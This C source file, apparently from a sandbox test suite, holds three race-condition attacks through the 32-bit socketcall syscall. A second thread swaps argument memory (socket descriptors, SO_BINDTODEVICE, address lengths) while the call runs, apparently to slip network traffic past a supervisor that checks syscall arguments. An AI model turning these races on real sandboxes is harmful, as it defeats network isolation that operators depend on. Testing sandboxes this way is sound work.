// socketcall(2) of 32-bit programs, which a 64-bit one can make too: its arguments are in memory, the descriptor among them.
#include "race.h"

#if defined(__x86_64__)
#include <net/if.h>
#include <sys/mman.h>

enum { call_connect = 3, call_setsockopt = 14, call_sendmsg = 16, page = 4096 };

struct message32 { uint32_t name; int32_t name_length; uint32_t vector, vector_length, control, control_length, flags; };

struct control32 { uint32_t length; int32_t level, type; struct in_pktinfo info; };

// All that the calls point to, below 4 GiB.
static struct low {
    volatile uint32_t words[6];
    struct message32 message;
    struct { uint32_t start, length; } vector;
    struct control32 control;
    struct sockaddr_storage address;
    char device[IFNAMSIZ];
    char data[4];
} *low;

static uint32_t values[2];  // what one of the words changes between
static int changing;
static int local_socket, datagram;

static uint32_t at(const void *pointer)
{
    return (uint32_t)(uintptr_t)pointer;
}

static long socketcall(int call)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "0"(102L), "b"((long)call), "c"((long)at((const void *)low->words)) : "memory", "r8", "r9", "r10", "r11");
    result = (int)result;
    if (result < 0) {
        errno = (int)-result;
        return -1;
    }
    return result;
}

static void *change(void *unused)
{
    (void)unused;
    while (!is_over()) {
        low->words[changing] = values[0];
        pause_shortly();
        low->words[changing] = values[1];
        pause_shortly();
    }
    return NULL;
}

static void begin(const struct race *race, int word, uint32_t first, uint32_t second)
{
    values[0] = first;
    values[1] = second;
    changing = word;
    low->words[word] = first;
    in_thread(change, race);
}

static void prepare(const struct race *race)
{
    low = mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED)
        failed("mmap");
    low->address = race->first;
    strncpy(low->device, race->device, sizeof low->device - 1);
    local_socket = (int)check(socket(AF_UNIX, SOCK_DGRAM, 0), "socket");
    datagram = open_datagram(race);
}

// A message on a Unix socket, which becomes one on an IPv4 socket that names the other interface.
static void message(const struct race *race)
{
    prepare(race);
    low->vector.start = at(low->data);
    low->vector.length = 1;
    low->control = (struct control32){ sizeof low->control, IPPROTO_IP, IP_PKTINFO, { .ipi_ifindex = (int)if_nametoindex(race->device) } };
    low->message = (struct message32){ at(&low->address), (int32_t)race->length, at(&low->vector), 1, at(&low->control), sizeof low->control, 0 };
    low->words[1] = at(&low->message);
    begin(race, 0, (uint32_t)local_socket, (uint32_t)datagram);
    for (long i = 0; i < race->rounds; i++)
        count(socketcall(call_sendmsg));
}

// An option that means nothing becomes the device.
static void option(const struct race *race)
{
    prepare(race);
    check(connect(datagram, (struct sockaddr *)&race->first, race->length), "connect");
    low->words[0] = (uint32_t)datagram;
    low->words[1] = SOL_SOCKET;
    low->words[3] = at(low->device);
    low->words[4] = sizeof low->device;
    begin(race, 2, SO_REUSEADDR, SO_BINDTODEVICE);
    for (long i = 0; i < race->rounds; i++) {
        count(socketcall(call_setsockopt));
        send(datagram, "x", 1, 0);
    }
}

// A length that no address has becomes one.
static void connect_length(const struct race *race)
{
    struct sockaddr_storage none = { .ss_family = AF_UNSPEC };
    prepare(race);
    low->address = none;
    check(connect(datagram, (struct sockaddr *)&race->first, race->length), "connect");
    low->words[0] = (uint32_t)datagram;
    low->words[1] = at(&low->address);
    begin(race, 2, 1, race->length);
    for (long i = 0; i < race->rounds; i++) {
        count(socketcall(call_connect));
        sendto(datagram, "x", 1, 0, (const struct sockaddr *)&race->first, race->length);
    }
}

const struct attack socketcall_attacks[] = {
    { "socketcall-message", message },
    { "socketcall-option", option },
    { "socketcall-connect", connect_length },
    { 0 },
};
#else
const struct attack socketcall_attacks[] = { { 0 } };
#endif
